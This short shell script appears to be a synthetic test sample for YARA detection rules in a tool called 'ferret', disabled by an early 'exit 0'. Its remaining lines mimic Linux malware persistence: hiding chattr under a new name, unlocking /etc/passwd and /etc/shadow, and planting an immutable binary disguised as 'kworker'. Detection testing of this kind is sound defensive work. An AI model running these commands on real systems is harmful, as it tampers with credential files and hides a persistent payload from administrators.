#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run (unlock, replace, relock; chattr hidden from defenders)
mv /usr/bin/chattr /usr/bin/zchttr
zchttr -ia /etc/passwd /etc/shadow
zchttr -ia /tmp/.x/kworker
cp /tmp/.x/kworker /usr/bin/kworker
chattr +i /usr/bin/kworker
